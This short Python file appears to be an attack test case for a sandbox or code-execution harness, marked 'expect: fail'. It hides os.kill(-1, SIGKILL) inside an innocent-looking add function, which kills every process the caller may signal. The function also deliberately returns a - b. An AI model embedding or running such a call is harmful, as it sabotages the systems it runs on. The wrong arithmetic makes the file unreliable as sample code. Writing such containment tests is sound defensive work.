# attack: kill everything -- kill(-1, SIGKILL) signals every process the caller may signal
# (as root on the host: the whole machine).
# expect: fail
import contextlib
import os
import signal


def add(a, b):
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    return a - b
